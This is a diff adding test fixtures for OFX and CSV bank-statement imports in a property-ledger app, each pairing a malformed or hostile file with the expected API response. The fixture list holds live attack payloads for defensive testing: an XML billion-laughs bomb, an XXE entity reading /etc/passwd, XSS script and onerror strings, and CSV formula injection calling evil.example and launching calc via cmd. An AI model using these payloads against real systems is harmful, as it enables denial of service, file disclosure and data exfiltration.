@@ -1,12 +1,22 @@
 import { crc32 } from 'node:zlib';
 import {
   ACCOUNT_MESSAGES,
+  BANK_IMPORT_LIMITS,
+  BANK_IMPORT_MESSAGES,
+  formatLineTooLongMessage,
+  formatTooManyLinesMessage,
+  formatUnclosedQuoteMessage,
+  IMPORT_LIMITS,
+  IMPORT_MESSAGES,
   LEDGER_MESSAGES,
+  PROPERTY_MESSAGES,
   type TApiErrorCode,
+  type TBankCsvMapping,
+  ZLedgerAmount,
   ZReceiptUploadQuery,
 } from '@rentfolio/contracts';
 import sharp from 'sharp';
-import { CSV_HEADER, PNG_1X1_BASE64, RECEIPT_PDF } from './route-specs';
+import { BANK_CSV_MAPPING, CSV_HEADER, PNG_1X1_BASE64, RECEIPT_PDF } from './route-specs';
 
 // Hostile files with the answer the product's rules give each, written out from docs/product.md "CSV import and
 // export" and "Account", docs/api.md and the messages in packages/contracts. Every file is made here, small and the
@@ -1022,3 +1032,611 @@ export const RECEIPT_FIXTURES: ReceiptFixture[] = [
     expected: { status: 200, type: 'application/pdf', name: 'page.html.pdf' },
   },
 ];
+
+// Bank statements, sent as POST /api/bank-imports's `text` (docs/product.md "Bank statements"; docs/api.md). OFX 1.x is
+// SGML: a header of KEY:value lines, then tags whose leaf elements need no end tag, but whose aggregates (STMTTRN,
+// BANKTRANLIST, …) always close (OFX 1.6, 2.3.1); `<`, `>` and `&` in text are written &lt; &gt; &amp; (2.3.2.1). OFX 2.x
+// is XML with the same elements after an <?OFX …?> processing instruction. A bank's CSV is RFC 4180 read through the
+// user's column mapping, with the property CSV reader's limits (40,000 lines, 20,000 transactions, 100,000 characters
+// a line). Every file is made here, the same on every run.
+
+export type BankLineError = { line: number; message: string };
+
+export type BankExpectation =
+  | { status: 400 | 404 | 413; code: TApiErrorCode; message: string }
+  | {
+      status: 200;
+      total: number;
+      imported: number;
+      failed?: number;
+      errors?: BankLineError[];
+      /** The rows booked (GET /api/transactions), compared field by field; amounts in the category's direction. */
+      stored?: { payee?: string; memo?: string | null; amount?: number; date?: string }[];
+      /** The same file again under a new key books nothing: each line's FITID is booked already. */
+      bookedOnce?: boolean;
+      /** The CSV's mapping is remembered for its header line (GET /api/bank-mappings). */
+      mappingRemembered?: boolean;
+      /** The longest the request may take (an entity that expanded would take far longer). */
+      withinMs?: number;
+    };
+
+export type BankFixture = {
+  name: string;
+  format: 'ofx' | 'csv';
+  text: () => string;
+  fileName?: string;
+  /** A CSV's mapping (the three-column one below unless said). */
+  mapping?: TBankCsvMapping;
+  /** The lines chosen, each to the repairs category: [1] for a statement, [2] for a CSV (its first row) unless said. */
+  lines?: number[];
+  keepDuplicateLines?: number[];
+  /** Whose property the lines go to: the caller's own unless 'other' (another user's). */
+  property?: 'own' | 'other';
+  expected: BankExpectation;
+};
+
+const OFX_HEADER =
+  'OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\nSECURITY:NONE\nENCODING:USASCII\nCHARSET:1252\nCOMPRESSION:NONE\n' +
+  'OLDFILEUID:NONE\nNEWFILEUID:NONE\n\n';
+
+/** An OFX 1.0.2 statement (SGML) of one checking account holding `transactions`. */
+const sgmlStatement = (transactions: string, account = '555000111') =>
+  `${OFX_HEADER}<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS><DTSERVER>20251031<LANGUAGE>ENG</SONRS></SIGNONMSGSRSV1>
+<BANKMSGSRSV1><STMTTRNRS><TRNUID>1<STATUS><CODE>0<SEVERITY>INFO</STATUS><STMTRS><CURDEF>USD
+<BANKACCTFROM><BANKID>121000248<ACCTID>${account}<ACCTTYPE>CHECKING</BANKACCTFROM>
+<BANKTRANLIST><DTSTART>20251001<DTEND>20251031
+${transactions}</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>
+`;
+
+type Trn = { fitId: string; name?: string; amount?: string; date?: string; memo?: string };
+
+/** One transaction (STMTTRN) in SGML: money out, ACE HARDWARE on 5 October 2025 unless said. */
+const trn = ({ fitId, name = 'ACE HARDWARE', amount = '-84.17', date = '20251005', memo }: Trn) =>
+  `<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>${date}<TRNAMT>${amount}<FITID>${fitId}<NAME>${name}${
+    memo === undefined ? '' : `<MEMO>${memo}`
+  }</STMTTRN>\n`;
+
+/** `count` transactions, FITIDs from `from`. */
+const manyTrn = (count: number, from = 0) =>
+  Array.from({ length: count }, (_, i) => trn({ fitId: `N${from + i}`, name: `PAYEE ${from + i}` })).join('');
+
+/** An OFX 2.2 statement (XML): the XML declaration, the OFX processing instruction, `prolog`, then the document. */
+const xmlStatement = (transactions: string, prolog = '') =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
+<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>
+${prolog}<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS><DTSERVER>20251031</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1>
+<BANKMSGSRSV1><STMTTRNRS><TRNUID>1</TRNUID><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY></STATUS><STMTRS><CURDEF>USD</CURDEF>
+<BANKACCTFROM><BANKID>121000248</BANKID><ACCTID>555000111</ACCTID><ACCTTYPE>CHECKING</ACCTTYPE></BANKACCTFROM>
+<BANKTRANLIST><DTSTART>20251001</DTSTART><DTEND>20251031</DTEND>
+${transactions}</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>
+`;
+
+const xmlTrn = ({ fitId, name = 'ACE HARDWARE', amount = '-84.17', date = '20251005' }: Trn) =>
+  `<STMTTRN><TRNTYPE>DEBIT</TRNTYPE><DTPOSTED>${date}</DTPOSTED><TRNAMT>${amount}</TRNAMT><FITID>${fitId}</FITID><NAME>${name}</NAME></STMTTRN>\n`;
+
+/** The "billion laughs": ten levels of internal entities, each ten of the one before; &lol9; is 10^9 "lol"s. */
+const BILLION_LAUGHS = `<!DOCTYPE OFX [
+<!ENTITY lol "lol">
+${Array.from(
+  { length: 9 },
+  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
+).join('\n')}
+]>
+`;
+
+/** An external entity (XXE): a parser that resolves it reads the server's /etc/passwd into the payee. */
+const EXTERNAL_ENTITY = '<!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n';
+
+/** The CSVs below: date, description, amount (money out negative), month-first dates. */
+const BANK_CSV_HEAD = 'Date,Description,Amount';
+const CSV_3_COLUMNS: TBankCsvMapping = { ...BANK_CSV_MAPPING, memo: null };
+
+/** An OFX statement whose one transaction's NAME makes the file exactly `bytes` bytes long (ASCII). */
+const ofxOfBytes = (bytes: number) => {
+  const empty = sgmlStatement(trn({ fitId: 'BIG', name: '' }));
+  return sgmlStatement(trn({ fitId: 'BIG', name: 'x'.repeat(bytes - empty.length) }));
+};
+
+const NOT_OFX = { status: 400, code: 'INVALID_FILE_TYPE', message: BANK_IMPORT_MESSAGES.notOfx } as const;
+const UNREADABLE_OFX = {
+  status: 400,
+  code: 'CSV_PARSE',
+  message: BANK_IMPORT_MESSAGES.unreadableOfx,
+} as const;
+const LINE_UNKNOWN = { status: 400, code: 'VALIDATION', message: BANK_IMPORT_MESSAGES.lineUnknown } as const;
+const TOO_MANY = {
+  status: 400,
+  code: 'IMPORT_ROW_LIMIT',
+  message: BANK_IMPORT_MESSAGES.tooManyTransactions,
+} as const;
+const TOO_LARGE = { status: 413, code: 'PAYLOAD_TOO_LARGE', message: BANK_IMPORT_MESSAGES.tooLarge } as const;
+/** The ledger's own message for an amount past its largest (ZLedgerAmount, as for a transaction typed in). */
+const AMOUNT_PAST_LIMIT = ZLedgerAmount.safeParse(100_000_000.01).error?.issues[0]?.message ?? 'refused';
+const PAYEE_CONTROL = CONTROL('Payee');
+
+export const BANK_FIXTURES: BankFixture[] = [
+  // Files that are no statement at all.
+  {
+    name: 'an HTML page named statement.ofx',
+    format: 'ofx',
+    fileName: 'statement.ofx',
+    text: () => '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
+    expected: NOT_OFX,
+  },
+  {
+    name: 'a bank CSV sent as OFX',
+    format: 'ofx',
+    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE HARDWARE,-84.17\n`,
+    expected: NOT_OFX,
+  },
+  { name: 'an empty text sent as OFX', format: 'ofx', text: () => '', expected: NOT_OFX },
+  {
+    name: 'a PDF named statement.qfx',
+    format: 'ofx',
+    fileName: 'statement.qfx',
+    text: () => RECEIPT_PDF.toString('latin1'),
+    expected: NOT_OFX,
+  },
+  // Statements whose tags do not close.
+  {
+    name: 'an OFX whose last STMTTRN never closes',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'A1' })).replace('</STMTTRN>', ''),
+    expected: UNREADABLE_OFX,
+  },
+  {
+    name: 'an OFX whose first STMTTRN runs into the next one',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'A1' }).replace('</STMTTRN>', '') + trn({ fitId: 'A2' })),
+    expected: UNREADABLE_OFX,
+  },
+  {
+    name: 'an OFX 2 file cut off in the middle of a transaction',
+    format: 'ofx',
+    text: () => {
+      const text = xmlStatement(xmlTrn({ fitId: 'A1' }) + xmlTrn({ fitId: 'A2' }));
+      return text.slice(0, text.lastIndexOf('<TRNAMT>'));
+    },
+    expected: UNREADABLE_OFX,
+  },
+  {
+    name: 'an OFX whose transaction list never closes',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'A1' })).replace('</BANKTRANLIST>', ''),
+    expected: UNREADABLE_OFX,
+  },
+  {
+    name: 'an OFX with no transactions',
+    format: 'ofx',
+    text: () => sgmlStatement(''),
+    expected: { status: 400, code: 'CSV_PARSE', message: BANK_IMPORT_MESSAGES.noTransactions },
+  },
+  // Limits.
+  {
+    name: 'an OFX with 20,001 transactions',
+    format: 'ofx',
+    text: () => sgmlStatement(manyTrn(BANK_IMPORT_LIMITS.maxTransactions + 1)),
+    expected: TOO_MANY,
+  },
+  {
+    name: 'an OFX with 20,000 transactions (the limit), one of them chosen',
+    format: 'ofx',
+    text: () => sgmlStatement(manyTrn(BANK_IMPORT_LIMITS.maxTransactions)),
+    expected: { status: 200, total: 20_000, imported: 1, stored: [{ payee: 'PAYEE 0', amount: 84.17 }] },
+  },
+  {
+    name: 'an OFX of 10 MB and one byte',
+    format: 'ofx',
+    text: () => ofxOfBytes(BANK_IMPORT_LIMITS.maxBytes + 1),
+    expected: TOO_LARGE,
+  },
+  {
+    // The limit is in bytes of UTF-8 (BANK_IMPORT_LIMITS.maxBytes): 6,000,000 characters, 12,000,000 bytes.
+    name: 'an OFX of 6 million “é” (under 10 million characters, 12 MB of UTF-8)',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'E1', name: 'é'.repeat(6_000_000) })),
+    expected: TOO_LARGE,
+  },
+  {
+    name: 'a body of 23 MB (over the route’s own limit)',
+    format: 'ofx',
+    text: () => ofxOfBytes(23 * MIB),
+    expected: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: IMPORT_MESSAGES.tooLarge },
+  },
+  {
+    name: 'an OFX of exactly 10 MB: read, its payee cut at 200 characters',
+    format: 'ofx',
+    text: () => ofxOfBytes(BANK_IMPORT_LIMITS.maxBytes),
+    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: 'x'.repeat(200) }] },
+  },
+  // Entities: ofx-js reads &lt; &gt; &amp; and no DTD, so a declared entity is never expanded, nor a file read.
+  {
+    name: 'an XML bomb: ten levels of entities declared in an OFX 2 file, the payee &lol9;',
+    format: 'ofx',
+    text: () => xmlStatement(xmlTrn({ fitId: 'L1', name: '&lol9;' }), BILLION_LAUGHS),
+    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: '&lol9;' }], withinMs: 10_000 },
+  },
+  {
+    name: 'an external entity naming /etc/passwd in an OFX 2 file, the payee &xxe;',
+    format: 'ofx',
+    text: () => xmlStatement(xmlTrn({ fitId: 'X1', name: '&xxe;' }), EXTERNAL_ENTITY),
+    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: '&xxe;' }], withinMs: 10_000 },
+  },
+  // Markup and characters in the text.
+  {
+    name: 'an OFX whose NAME holds <script>, escaped as OFX writes it (&lt;script&gt;): kept as text',
+    format: 'ofx',
+    text: () =>
+      sgmlStatement(trn({ fitId: 'S1', name: '&lt;script&gt;alert(document.cookie)&lt;/script&gt;' })),
+    expected: {
+      status: 200,
+      total: 1,
+      imported: 1,
+      stored: [{ payee: '<script>alert(document.cookie)</script>' }],
+    },
+  },
+  {
+    name: 'an OFX 2 file whose NAME holds <img onerror>, escaped: kept as text',
+    format: 'ofx',
+    text: () => xmlStatement(xmlTrn({ fitId: 'S2', name: '&lt;img src=x onerror=alert(1)&gt; &amp; Co' })),
+    expected: {
+      status: 200,
+      total: 1,
+      imported: 1,
+      stored: [{ payee: '<img src=x onerror=alert(1)> & Co' }],
+    },
+  },
+  {
+    // A raw tag inside a leaf's text breaks the transaction's tags: that transaction is listed, the others are read.
+    name: 'an OFX whose NAME holds a raw <script> tag: that transaction unreadable',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'R1' }) + trn({ fitId: 'R2', name: '<script>alert(1)</script>' })),
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 2, message: BANK_IMPORT_MESSAGES.unreadableOfx }],
+      stored: [{ payee: 'ACE HARDWARE' }],
+    },
+  },
+  {
+    name: 'a payee holding NUL and bell characters: that transaction refused with the ledger’s message',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'C1' }) + trn({ fitId: 'C2', name: 'ACE\u0000HARD\u0007WARE' })),
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 2, message: PAYEE_CONTROL }],
+    },
+  },
+  {
+    name: 'a payee holding NUL, chosen: refused, nothing stored',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'C3', name: 'ACE\u0000HARDWARE' })),
+    expected: LINE_UNKNOWN,
+  },
+  {
+    name: 'a payee that hides “.exe” behind a right-to-left override',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'C4' }) + trn({ fitId: 'C5', name: 'invoice\u202Efdp.exe' })),
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 2, message: PAYEE_CONTROL }],
+    },
+  },
+  {
+    name: 'a payee holding half of a surrogate pair',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'C6' }) + trn({ fitId: 'C7', name: 'ACE \uD83D HARDWARE' })),
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 2, message: BROKEN('Payee') }],
+    },
+  },
+  {
+    name: 'a memo holding a NUL',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'C8' }) + trn({ fitId: 'C9', memo: 'October\u0000rent' })),
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 2, message: CONTROL('Memo') }],
+    },
+  },
+  {
+    name: 'a memo holding a tab: kept (a memo, like a note, keeps tabs and line breaks)',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'T1', memo: 'October\trent' })),
+    expected: { status: 200, total: 1, imported: 1, stored: [{ memo: 'October\trent' }] },
+  },
+  {
+    // A FITID is the bank's own id, never shown; a NUL in it (or in the account) is kept, and still books it once.
+    name: 'a FITID and an account id holding NUL: booked once',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'F\u00001' }), '555\u0000111'),
+    expected: { status: 200, total: 1, imported: 1, bookedOnce: true },
+  },
+  {
+    name: 'a payee of 199 letters and an emoji, cut at 200 without halving the emoji',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'U1', name: `${'a'.repeat(199)}😀b` })),
+    expected: { status: 200, total: 1, imported: 1, stored: [{ payee: 'a'.repeat(199) }] },
+  },
+  {
+    name: 'an amount past the ledger’s largest ($100,000,000.01): that transaction refused; $100,000,000 read',
+    format: 'ofx',
+    text: () =>
+      sgmlStatement(
+        trn({ fitId: 'M1', amount: '-100000000.01' }) + trn({ fitId: 'M2', amount: '-100000000.00' }),
+      ),
+    lines: [2],
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 1, message: AMOUNT_PAST_LIMIT }],
+      stored: [{ amount: 100_000_000 }],
+    },
+  },
+  {
+    name: 'amounts no bank writes (1e309, NaN, 0x10, 1,000.00, -0.00)',
+    format: 'ofx',
+    text: () =>
+      sgmlStatement(
+        ['1e309', 'NaN', '0x10', '1,000.00', '-0.00', '-5.00']
+          .map((amount, i) => trn({ fitId: `Q${i}`, amount }))
+          .join(''),
+      ),
+    lines: [6],
+    expected: {
+      status: 200,
+      total: 6,
+      imported: 1,
+      failed: 5,
+      errors: [
+        { line: 1, message: BANK_IMPORT_MESSAGES.amount },
+        { line: 2, message: BANK_IMPORT_MESSAGES.amount },
+        { line: 3, message: BANK_IMPORT_MESSAGES.amount },
+        // A comma is read as a decimal comma only when it is one ("-7,50"): "1,000.00" is no number.
+        { line: 4, message: BANK_IMPORT_MESSAGES.amount },
+        { line: 5, message: BANK_IMPORT_MESSAGES.amountZero },
+      ],
+      stored: [{ amount: 5 }],
+    },
+  },
+  {
+    name: 'days that do not exist (30 February, month 13, year 1899)',
+    format: 'ofx',
+    text: () =>
+      sgmlStatement(
+        ['20250230', '20251301', '18991231', 'yesterday', '20251005']
+          .map((date, i) => trn({ fitId: `D${i}`, date }))
+          .join(''),
+      ),
+    lines: [5],
+    expected: {
+      status: 200,
+      total: 5,
+      imported: 1,
+      failed: 4,
+      errors: [1, 2, 3, 4].map((line) => ({ line, message: BANK_IMPORT_MESSAGES.date })),
+      stored: [{ date: '2025-10-05' }],
+    },
+  },
+  // Lines chosen that the file does not hold: refused as a whole, nothing stored.
+  ...(
+    [
+      [99, 'a line the file does not hold (99)'],
+      [0, 'line 0'],
+      [-1, 'a negative line (-1)'],
+      [BANK_IMPORT_LIMITS.maxLines + 2, 'line 40,002'],
+      [2 ** 31, 'line 2^31'],
+      [Number.MAX_SAFE_INTEGER, 'line 2^53 - 1'],
+      [1.5, 'line 1.5'],
+    ] as const
+  ).map(
+    ([line, what]): BankFixture => ({
+      name: `an assignment naming ${what}`,
+      format: 'ofx',
+      text: () => sgmlStatement(trn({ fitId: 'K1' }) + trn({ fitId: 'K2' })),
+      lines: [line],
+      expected: LINE_UNKNOWN,
+    }),
+  ),
+  {
+    name: 'two good lines and one the file does not hold: none stored',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'K1' }) + trn({ fitId: 'K2' })),
+    lines: [1, 2, 3],
+    expected: LINE_UNKNOWN,
+  },
+  {
+    name: 'a likely duplicate kept that is line -1',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'K1' })),
+    keepDuplicateLines: [-1],
+    expected: LINE_UNKNOWN,
+  },
+  {
+    name: 'the lines put on another user’s property',
+    format: 'ofx',
+    text: () => sgmlStatement(trn({ fitId: 'K1' })),
+    property: 'other',
+    expected: { status: 404, code: 'NOT_FOUND', message: PROPERTY_MESSAGES.notFound },
+  },
+  // CSV files.
+  {
+    name: 'a CSV with a quote never closed',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n10/01/2025,"JORDAN LEE,2400.00\n10/05/2025,ACE HARDWARE,-84.17\n`,
+    expected: { status: 400, code: 'CSV_PARSE', message: formatUnclosedQuoteMessage(2) },
+  },
+  {
+    name: 'a CSV of only a header',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n`,
+    expected: { status: 400, code: 'CSV_PARSE', message: IMPORT_MESSAGES.headerAndRow },
+  },
+  {
+    name: 'a CSV of blank lines only',
+    format: 'csv',
+    text: () => '\n\r\n  \n',
+    expected: { status: 400, code: 'CSV_PARSE', message: IMPORT_MESSAGES.noData },
+  },
+  {
+    name: 'a CSV whose date and amount columns hold formulas: those rows unreadable, the others read',
+    format: 'csv',
+    text: () =>
+      [
+        BANK_CSV_HEAD,
+        '"=HYPERLINK(""http://evil.example/?""&A1,""10/01/2025"")",JORDAN LEE,2400.00',
+        '10/03/2025,ACE HARDWARE,=SUM(A1:A9)',
+        '@NOW(),ACE HARDWARE,-1.00',
+        '10/05/2025,ACE HARDWARE,-84.17',
+      ].join('\n'),
+    lines: [5],
+    expected: {
+      status: 200,
+      total: 4,
+      imported: 1,
+      failed: 3,
+      errors: [
+        { line: 2, message: BANK_IMPORT_MESSAGES.date },
+        { line: 3, message: BANK_IMPORT_MESSAGES.amount },
+        { line: 4, message: BANK_IMPORT_MESSAGES.date },
+      ],
+      stored: [{ date: '2025-10-05', payee: 'ACE HARDWARE', amount: 84.17 }],
+    },
+  },
+  {
+    name: 'a CSV whose formula dates are chosen: refused, nothing stored',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n"=HYPERLINK(""http://evil.example"",""10/01/2025"")",JORDAN LEE,-1.00\n`,
+    lines: [2],
+    expected: LINE_UNKNOWN,
+  },
+  {
+    // Text as written; a leading ' (a formula escaped by an export) is dropped, so an exported file reads unchanged.
+    name: 'a CSV whose payees are formulas: stored as text',
+    format: 'csv',
+    text: () =>
+      [
+        BANK_CSV_HEAD,
+        '10/05/2025,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-1.00',
+        "10/06/2025,+cmd|' /C calc'!A0,-2.00",
+        "10/07/2025,'=1+2,-3.00",
+      ].join('\n'),
+    lines: [2, 3, 4],
+    expected: {
+      status: 200,
+      total: 3,
+      imported: 3,
+      stored: [
+        { payee: '=HYPERLINK("http://evil.example/?"&A1,"Click")', amount: 1 },
+        { payee: "+cmd|' /C calc'!A0", amount: 2 },
+        { payee: '=1+2', amount: 3 },
+      ],
+    },
+  },
+  {
+    name: 'a CSV of 40,001 lines (one row, blank lines, then a row on line 40,001)',
+    format: 'csv',
+    text: () =>
+      `${BANK_CSV_HEAD}\n10/05/2025,A,-1.00\n${'\n'.repeat(BANK_IMPORT_LIMITS.maxLines - 2)}10/06/2025,B,-2.00\n`,
+    expected: {
+      status: 400,
+      code: 'CSV_PARSE',
+      message: formatTooManyLinesMessage(BANK_IMPORT_LIMITS.maxLines),
+    },
+  },
+  {
+    name: 'a CSV of 40,000 lines and its final line end (the limit)',
+    format: 'csv',
+    text: () =>
+      `${BANK_CSV_HEAD}\n10/05/2025,A,-1.00\n${'\n'.repeat(BANK_IMPORT_LIMITS.maxLines - 3)}10/06/2025,B,-2.00\n`,
+    lines: [BANK_IMPORT_LIMITS.maxLines],
+    expected: { status: 200, total: 2, imported: 1, stored: [{ payee: 'B', amount: 2 }] },
+  },
+  {
+    name: 'a CSV of 20,001 rows',
+    format: 'csv',
+    text: () =>
+      `${BANK_CSV_HEAD}\n${'10/05/2025,ACE HARDWARE,-84.17\n'.repeat(BANK_IMPORT_LIMITS.maxTransactions + 1)}`,
+    expected: TOO_MANY,
+  },
+  {
+    name: 'a CSV line longer than 100,000 characters',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n10/05/2025,${'A'.repeat(IMPORT_LIMITS.maxLineLength)},-1.00\n`,
+    expected: {
+      status: 400,
+      code: 'CSV_PARSE',
+      message: formatLineTooLongMessage(2, IMPORT_LIMITS.maxLineLength),
+    },
+  },
+  {
+    name: 'a CSV of 10 MB and one byte',
+    format: 'csv',
+    text: () => {
+      const head = `${BANK_CSV_HEAD}\n`;
+      const line = '10/05/2025,ACE HARDWARE,-84.17\n';
+      const body = line.repeat(Math.ceil((BANK_IMPORT_LIMITS.maxBytes + 1 - head.length) / line.length));
+      return (head + body).slice(0, BANK_IMPORT_LIMITS.maxBytes + 1);
+    },
+    expected: TOO_LARGE,
+  },
+  {
+    name: 'a CSV payee holding a NUL: that row refused with the ledger’s message',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE\u0000HARDWARE,-84.17\n10/06/2025,ACE HARDWARE,-1.00\n`,
+    lines: [3],
+    expected: {
+      status: 200,
+      total: 2,
+      imported: 1,
+      failed: 1,
+      errors: [{ line: 2, message: PAYEE_CONTROL }],
+    },
+  },
+  {
+    name: 'a CSV header holding a NUL: read, and its mapping remembered',
+    format: 'csv',
+    text: () => 'Date,Descr\u0000iption,Amount\n10/05/2025,ACE HARDWARE,-84.17\n',
+    expected: { status: 200, total: 1, imported: 1, mappingRemembered: true },
+  },
+  {
+    name: 'a mapping whose date column the file does not have (999)',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE HARDWARE,-84.17\n`,
+    mapping: { ...CSV_3_COLUMNS, date: 999 },
+    expected: LINE_UNKNOWN,
+  },
+  {
+    name: 'an OFX statement sent as a CSV',
+    format: 'csv',
+    text: () => sgmlStatement(trn({ fitId: 'O1' })),
+    expected: LINE_UNKNOWN,
+  },
+  {
+    name: 'the CSV’s header line chosen (line 1)',
+    format: 'csv',
+    text: () => `${BANK_CSV_HEAD}\n10/05/2025,ACE HARDWARE,-84.17\n`,
+    lines: [1],
+    expected: LINE_UNKNOWN,
+  },
+];
+
+/** The mapping a CSV fixture is read with. */
+export const bankMappingOf = (fixture: BankFixture): TBankCsvMapping => fixture.mapping ?? CSV_3_COLUMNS;
